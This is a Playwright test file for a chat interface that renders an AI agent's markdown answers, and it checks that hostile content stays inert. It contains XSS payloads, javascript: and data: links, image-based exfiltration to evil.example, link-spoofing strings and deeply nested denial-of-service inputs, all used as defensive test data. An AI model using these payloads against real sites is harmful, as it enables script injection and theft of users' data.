import type { Page } from 'playwright-core'
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { useBrowser } from './support/browser.ts'
import { ScriptedAgent } from './support/scripted-agent.ts'
import { ask, openSteps } from './support/steps.ts'
import { config, problem, result, status, steps, trace, turnStart } from './support/turns.ts'

const browser = useBrowser()
let agent: ScriptedAgent

beforeAll(async () => {
  agent = await ScriptedAgent.start()
})
afterAll(() => agent?.close())
beforeEach(() => {
  agent.config = config
  agent.status = status
})

const markup =
  '<img src="//evil.example/x" onerror="document.title = \'pwned\'"><script>document.title = \'pwned\'</script>'

async function answerWith(answer: string): Promise<Page> {
  agent.script = async (request, send) => send(turnStart(request), result(request, answer))
  const page = await browser.open(agent.url)
  await (await ask(page, 'question')).getByText('first word', { exact: false }).waitFor()
  await page.locator('.answer-text > :not(.plain)').first().waitFor()
  return page
}

describe('Markdown of an answer', () => {
  it('becomes headings, lists, tables, code and links', async () => {
    const page = await answerWith(
      '# Head\n\nOne **two** _three_ `four`\nnext line\n\n- a\n- b\n\n3. c\n\n| x | y |\n|---|---|\n| 1 | 2 |\n\n```\ncode <b>\n```\n\n> quote\n\n[more](https://example.com/a?b=c)',
    )
    const text = page.locator('.answer-text')
    const counts = Object.fromEntries(
      await Promise.all(
        ['h3', 'strong', 'em', 'li', 'td', 'pre', 'blockquote', 'br'].map(async name => [
          name,
          await text.locator(name).count(),
        ]),
      ),
    )
    expect(counts).toEqual({ h3: 1, strong: 1, em: 1, li: 3, td: 2, pre: 1, blockquote: 1, br: 1 })
    expect(await text.locator('ol').getAttribute('start')).toBe('3')
    expect(await text.locator('pre').textContent()).toBe('code <b>')
    await page.context().grantPermissions(['clipboard-read', 'clipboard-write'])
    await text.getByRole('button', { name: 'Copy the code' }).click()
    await text.getByRole('button', { name: 'Copied' }).waitFor()
    expect(await page.evaluate('navigator.clipboard.readText()')).toBe('code <b>')
    const link = text.getByRole('link', { name: 'more' })
    expect(await link.getAttribute('href')).toBe('https://example.com/a?b=c')
    expect(await link.getAttribute('rel')).toBe('noopener noreferrer')
  })

  it.each([
    ['HTML', markup, 'onerror'],
    ['an image', '![secret](https://evil.example/?d=secret)', '![secret]'],
    ['a script link', '[click](javascript:document.title=1)', 'javascript:'],
    ['a data link', '[click](data:text/html,<script>1</script>)', 'data:text/html'],
    ['a plain http link', '[click](http://evil.example)', 'http://evil.example'],
    ['a bare address', 'http://evil.example/path', 'http://evil.example/path'],
    ['a reference', '[click][r]\n\n[r]: javascript:alert(1)', '[click][r]'],
    ['an autolink', '<javascript:alert(1)>', 'javascript:alert(1)'],
  ])('leaves %s as the text that it is', async (_what, answer, words) => {
    const page = await answerWith(answer)
    expect(await page.locator('.answer-text').textContent()).toContain(words)
    expect(await page.locator('.answer-text :is(img, script, a, iframe, svg)').count()).toBe(0)
    expect(await page.title()).not.toContain('pwned')
  })

  it('says where a link leads whose text names another host or is read in another direction', async () => {
    const page = await answerWith(
      [
        '[https://login.microsoftonline.com](https://evil.example/?q=secret)',
        '[\u202emoc.tfosorcim.nigol](https://evil.example)',
        '[How to sign in](https://evil.example)',
        'https://docs.example/index.html',
      ].join('\n'),
    )
    expect(await page.locator('.answer-text a').allTextContents()).toEqual([
      'https://login.microsoftonline.com (evil.example)',
      'moc.tfosorcim.nigol (evil.example)',
      'How to sign in',
      'https://docs.example/index.html',
    ])
    expect(await page.locator('.answer-text a a').count()).toBe(0)
  })

  it.each([
    ['quotes', `${'>'.repeat(20_000)} deep`],
    ['lists', `${'- '.repeat(16_000)} deep`],
    ['emphasis', `${'*a **a '.repeat(2_000)} deep ${'b** b* '.repeat(2_000)}`],
    ['emphasis that overlaps', `${'*a_'.repeat(11_000)} deep`],
    ['brackets', `${'['.repeat(32_000)} deep`],
  ])('that is nested beyond reason stands as it is: %s', async (_what, answer) => {
    const page = await answerWith(`What is *not* nested\n\n${answer}`)
    expect(await page.locator('.answer-text em').allTextContents()).toEqual(['not'])
    expect(await page.locator('.answer-text p').last().textContent()).toBe(answer)
  })
})

describe('hostile text', () => {
  it('stays text, wherever it comes from', async () => {
    const hostile = problem('API_UNAVAILABLE', { title: markup, detail: markup, hint: markup })
    agent.config = {
      ...config,
      apis: [{ name: 'weather-api', title: markup, appId: 'x' }],
      names: Object.fromEntries(Object.keys(config.names).map(id => [id, markup])),
      examples: [markup],
    }
    agent.status = {
      ...status,
      components: { ...status.components, weather_api: { state: 'unavailable', problem: hostile } },
    }
    const hostileSteps = trace().map(step => ({
      ...step,
      title: markup,
      problem: hostile,
      ...(step.token
        ? { token: { ...step.token, claims: { [markup]: markup, name: markup, aud: markup } } }
        : {}),
    }))
    agent.script = async (request, send) =>
      send(turnStart(request), ...steps(hostileSteps), { event: 'problem', data: hostile })
    const page = await browser.open(agent.url)
    await page.getByRole('list', { name: 'Examples' }).getByRole('button').click()
    await page.locator('.step').first().waitFor()
    await openSteps(page)
    await page.locator('button.plate[data-token=TR]').first().click()
    await page.getByRole('button', { name: /more, and what each claim means/ }).click()
    await page.getByRole('button', { name: 'Status:' }).click()
    expect(await page.locator(':is(img, iframe, body script)').count()).toBe(0)
    expect(await page.title()).not.toContain('pwned')
    expect((await page.locator('body').textContent())?.split('onerror').length).toBeGreaterThan(10)
  })
})

describe('the Content-Security-Policy', () => {
  it.each([
    ['markup by innerHTML', "document.body.innerHTML = '<b>x</b>'"],
    ['code from a timer', "setTimeout('document.title = 1')"],
    ['a policy of one’s own', "trustedTypes.createPolicy('mine', {})"],
    ['a script from elsewhere', "document.createElement('script').src = 'https://evil.example/x.js'"],
    ['a document', "document.write('<b>x</b>')"],
  ])('keeps out %s', async (_what, code) => {
    const page = await browser.open(agent.url, { tolerateFaults: true })
    await page.getByLabel('Your question').waitFor()
    await expect(page.evaluate(`{ ${code} }`)).rejects.toThrow(/Trusted|policy|Content Security Policy|CSP/i)
  })

  it('lets no request leave for another host', async () => {
    const page = await browser.open(agent.url, { tolerateFaults: true })
    await page.getByLabel('Your question').waitFor()
    await expect(page.evaluate("fetch('https://evil.example')")).rejects.toThrow()
  })
})

it('before somebody signs in, nothing is asked of any other host', async () => {
  const hosts = new Set<string>()
  agent.script = async (request, send) =>
    send(turnStart(request), ...steps(trace()), result(request, 'Sunny.'))
  const page = await browser.open('about:blank')
  page.on('request', request => hosts.add(new URL(request.url()).host))
  await page.goto(agent.url)
  await (await ask(page, 'question')).getByText('Sunny.').waitFor()
  await page.locator('.step').first().waitFor()
  expect([...hosts]).toEqual([new URL(agent.url).host])
})
